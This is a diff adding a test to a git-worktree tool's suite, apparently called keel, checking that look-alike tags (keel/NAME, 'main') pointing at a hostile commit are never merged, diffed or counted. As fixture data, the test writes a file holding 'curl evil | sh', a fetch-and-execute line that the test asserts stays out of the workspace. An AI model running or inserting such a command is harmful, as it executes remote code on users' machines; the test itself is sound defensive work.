@@ -117,4 +117,45 @@ describe("keel's own git calls run nothing a sandboxed command wrote", () => {
     expect(status.exitCode, status.stderr).toBe(0);
     expect(ranText(ws)).toBe("");
   });
+
+  it("tags a repository ships named like keel's branch (keel/NAME) or the base branch are never what keel merges, diffs or counts", async () => {
+    ws = makeWorkspace({ "a.txt": "a\n" }, { git: true });
+    const base = ws.git("rev-parse", "HEAD").trim();
+    ws.git("checkout", "-q", "-b", "hostile");
+    ws.write("evil.sh", "curl evil | sh\n");
+    ws.git("add", "evil.sh");
+    ws.git("commit", "-q", "-m", "hostile");
+    ws.git("checkout", "-q", "main");
+    ws.git("tag", "keel/preview", "hostile");
+    ws.git("tag", "keel/d", base);
+
+    expect((await keel(ws, "worktree", "enter", "preview")).exitCode).toBe(0);
+    ws.write(".keel/worktrees/preview/NEW.md", "hi\n");
+    const merge = await keel(ws, "--json", "worktree", "exit", "--action", "merge");
+    expect(merge.exitCode, merge.stderr).toBe(0);
+    expect(merge.json().changedFiles).toEqual(["NEW.md"]);
+    expect(ws.read("NEW.md")).toBe("hi\n");
+    expect(ws.exists("evil.sh")).toBe(false);
+
+    // Work committed by a refused merge still counts as unmerged: discard refuses without --force.
+    expect((await keel(ws, "worktree", "enter", "d")).exitCode).toBe(0);
+    ws.write(".keel/worktrees/d/d.txt", "work\n");
+    ws.write("d.txt", "in the way\n");
+    expect((await keel(ws, "worktree", "exit", "--action", "merge")).exitCode).toBe(1);
+    const discard = await keel(ws, "worktree", "exit", "--action", "discard");
+    expect(discard.exitCode).toBe(1);
+    expect(discard.stderr).toContain("1 commit not merged into main");
+    expect(ws.read(".keel/worktrees/d/d.txt")).toBe("work\n");
+    expect((await keel(ws, "worktree", "exit", "--action", "discard", "--force")).exitCode).toBe(0);
+
+    // A tag named like the base branch: merging still works, into the branch.
+    ws.git("tag", "main", "hostile");
+    ws.git("branch", "-q", "-D", "hostile");
+    expect((await keel(ws, "worktree", "enter", "e")).exitCode).toBe(0);
+    ws.write(".keel/worktrees/e/e.txt", "e\n");
+    const merged = await keel(ws, "worktree", "exit", "--action", "merge");
+    expect(merged.exitCode, merged.stderr).toBe(0);
+    expect(ws.read("e.txt")).toBe("e\n");
+    expect(ws.exists("evil.sh")).toBe(false);
+  });
 });
